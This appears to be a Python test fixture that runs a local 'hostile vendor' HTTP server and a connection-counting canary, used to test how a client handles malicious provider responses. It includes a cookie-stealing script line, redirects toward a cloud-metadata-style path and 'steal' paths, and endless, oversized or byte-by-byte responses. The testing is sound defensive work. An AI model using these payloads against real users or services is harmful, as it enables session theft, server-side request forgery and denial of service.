"""A hostile vendor and a hostile webhook receiver in one local HTTP server, and a canary that counts connections.

`HostileServer` speaks the `sandbox` dialect (shared/providers/sandbox.py) under /sandbox; what it does follows
from the job's prompt, one of SCENARIOS:

    POST /sandbox/v1/jobs               a task; `submit-redirect`: 302 to the canary instead
    GET  /sandbox/v1/jobs/{id}          succeeded with the scenario's outputs; `poll-redirect`: 302 to the canary;
                                        `poll-trickle`: status line and headers one byte every TRICKLE_PAUSE s
    GET  /out/redirect/0.mp4            302 to the canary
    GET  /out/chain/{n}/0.mp4           302 to /out/chain/{n-1}/0.mp4 ... /out/chain/0/0.mp4 answers a small video
    GET  /out/endless/0.mp4             video bytes, no Content-Length, until the client hangs up
    GET  /out/huge/0.mp4                Content-Length 10^12, then no body until the client hangs up (10 s at most)
    GET  /out/trickle/0.mp4             headers at once (Content-Length 10^6), then one byte every TRICKLE_PAUSE seconds
    GET  /out/trickle-head/0.mp4        the status line and headers one byte every TRICKLE_PAUSE seconds
    GET  /out/small/{n}.mp4, /out/page/0.html    a small video; a small HTML page with a script
    POST /hook/trickle                  the answer's status line and headers one byte every TRICKLE_PAUSE seconds

Every request is recorded (`Served`: path, when, body bytes written, whether the client hung up first).
Threads, on 127.0.0.1 and free ports; use as context managers.
"""

from __future__ import annotations

import contextlib
import json
import select
import socket
import threading
import time
import uuid
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

CHUNK = b"\x00\x00\x00\x18ftypmp42" + bytes(64 * 1024 - 12)
TRICKLE_PAUSE = 0.25
SMALL_VIDEO = CHUNK[:1000]
PAGE = b"<html><script>fetch('/steal?c=' + document.cookie)</script></html>"
#: prompt -> the output paths a poll answers with
SCENARIOS: dict[str, list[str]] = {
    "redirect-to-canary": ["/out/redirect/0.mp4"],
    "redirect-chain-6": ["/out/chain/6/0.mp4"],
    "redirect-chain-5": ["/out/chain/5/0.mp4"],
    "endless": ["/out/endless/0.mp4"],
    "huge-length": ["/out/huge/0.mp4"],
    "trickle": ["/out/trickle/0.mp4"],
    "trickle-head": ["/out/trickle-head/0.mp4"],
    "too-many-outputs": [f"/out/small/{n}.mp4" for n in range(17)],
    "html-page": ["/out/page/0.html"],
    "plain": ["/out/small/0.mp4"],
    "submit-redirect": [],
    "poll-redirect": [],
    "poll-trickle": [],
}


@dataclass
class Served:
    """One request the server answered: its path, when it began and ended, body bytes written."""

    method: str
    path: str
    started: float = field(default_factory=time.monotonic)
    ended: float | None = None
    body_bytes: int = 0
    hung_up: bool = False

    @property
    def seconds(self) -> float:
        return (self.ended or time.monotonic()) - self.started


class Canary:
    """A TCP listener that accepts and counts connections, and answers nothing."""

    def __init__(self) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self.listener.getsockname()[1])
        self.connections = 0
        self._thread = threading.Thread(target=self._accept, name="canary", daemon=True)

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def __enter__(self) -> Canary:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.listener.close()


class HostileServer:
    """The hostile vendor and receiver (see the module docstring); `served` records every request."""

    def __init__(self, canary: Canary) -> None:
        self.canary = canary
        self.served: list[Served] = []
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), _handler(self))
        self.httpd.daemon_threads = True
        self.port = int(self.httpd.server_address[1])
        self.base_url = f"http://127.0.0.1:{self.port}"
        self._thread = threading.Thread(target=self.httpd.serve_forever, name="hostile", daemon=True)

    def requests(self, prefix: str) -> list[Served]:
        """The requests whose path starts with `prefix`, in order."""
        return [served for served in self.served if served.path.startswith(prefix)]

    def __enter__(self) -> HostileServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def _handler(server: HostileServer) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            record = self._record()
            body = self.rfile.read(int(self.headers.get("content-length") or 0))
            try:
                if self.path.startswith("/sandbox/v1/jobs"):
                    prompt = json.loads(body).get("prompt", "")
                    if prompt == "submit-redirect":
                        self._redirect(server.canary.url("/steal-the-submit"))
                    else:
                        task = f"t{uuid.uuid4().hex[:8]}-{prompt}"
                        self._json({"id": task, "status": "queued", "estimated_seconds": 0, "cost_credits": 1})
                elif self.path == "/hook/trickle":
                    self._trickle(record, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nX-Slow: " + b"s" * 40 + b"\r\n\r\n")
                else:
                    self._plain(404, b"no\n")
            finally:
                record.ended = time.monotonic()

        def do_GET(self) -> None:
            record = self._record()
            try:
                self._get(record)
            finally:
                record.ended = time.monotonic()

        def _get(self, record: Served) -> None:
            path = self.path
            if path.startswith("/sandbox/v1/jobs/"):
                task = path.rsplit("/", 1)[-1]
                scenario = task.split("-", 1)[1]
                if scenario == "poll-redirect":
                    self._redirect(server.canary.url("/steal-the-poll"))
                    return
                if scenario == "poll-trickle":
                    self._trickle(record, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nX-Slow: " + b"s" * 40 + b"\r\n\r\n")
                    return
                outputs = [server.base_url + out for out in SCENARIOS[scenario]]
                self._json({"id": task, "status": "succeeded", "progress": 100, "outputs": outputs, "error": None})
            elif path == "/out/redirect/0.mp4":
                self._redirect(server.canary.url("/latest/meta-data/0.mp4"))
            elif path.startswith("/out/chain/"):
                hops = int(path.split("/")[3])
                if hops:
                    self._redirect(f"/out/chain/{hops - 1}/0.mp4")
                else:
                    self._bytes(record, SMALL_VIDEO, "video/mp4")
            elif path == "/out/endless/0.mp4":
                self._endless(record)
            elif path == "/out/huge/0.mp4":
                self._huge(record)
            elif path in ("/out/trickle/0.mp4", "/out/trickle-head/0.mp4"):
                head = b"HTTP/1.1 200 OK\r\nContent-Type: video/mp4\r\nContent-Length: 1000000\r\n\r\n"
                self._trickle(record, head, body=path.startswith("/out/trickle/"))
            elif path.startswith("/out/small/"):
                self._bytes(record, SMALL_VIDEO, "video/mp4")
            elif path == "/out/page/0.html":
                self._bytes(record, PAGE, "text/html; charset=utf-8")
            else:
                self._plain(404, b"no\n")

        def _record(self) -> Served:
            record = Served(self.command, self.path)
            server.served.append(record)
            return record

        def _redirect(self, location: str) -> None:
            self.send_response(302)
            self.send_header("Location", location)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def _json(self, body: dict[str, object]) -> None:
            data = json.dumps(body).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def _plain(self, status: int, body: bytes) -> None:
            self.send_response(status)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def _bytes(self, record: Served, body: bytes, content_type: str) -> None:
            self.send_response(200)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            record.body_bytes = len(body)

        def _endless(self, record: Served) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "video/mp4")
            self.send_header("Connection", "close")
            self.end_headers()
            self.close_connection = True
            try:
                while True:
                    self.wfile.write(CHUNK)
                    record.body_bytes += len(CHUNK)
            except OSError:
                record.hung_up = True

        def _huge(self, record: Served) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "video/mp4")
            self.send_header("Content-Length", str(10**12))
            self.end_headers()
            self.wfile.flush()
            self.close_connection = True
            if _hung_up(self.connection, 10.0):
                record.hung_up = True
                return
            with contextlib.suppress(OSError):  # the client is reading: feed it
                while True:
                    self.wfile.write(CHUNK)
                    record.body_bytes += len(CHUNK)
            record.hung_up = True

        def _trickle(self, record: Served, head: bytes, body: bool = False) -> None:
            """`head` one byte per TRICKLE_PAUSE; with `body`, `head` at once and 10^6 bytes one at a time."""
            self.close_connection = True
            if body:
                self.connection.sendall(head)
            for index in range(10**6 if body else len(head)):
                try:
                    self.connection.sendall(b"\x00" if body else head[index : index + 1])
                except OSError:
                    record.hung_up = True
                    return
                record.body_bytes += 1 if body else 0
                if _hung_up(self.connection, TRICKLE_PAUSE):
                    record.hung_up = True
                    return

        def log_message(self, format: str, *args: object) -> None:
            pass

    return Handler


def _hung_up(conn: socket.socket, wait: float) -> bool:
    """True once the peer closes `conn` within `wait` seconds (anything it sends meanwhile is read and dropped)."""
    deadline = time.monotonic() + wait
    while (left := deadline - time.monotonic()) > 0:
        readable, _, _ = select.select([conn], [], [], left)
        if not readable:
            return False
        try:
            if not conn.recv(65536):
                return True
        except OSError:
            return True
    return False
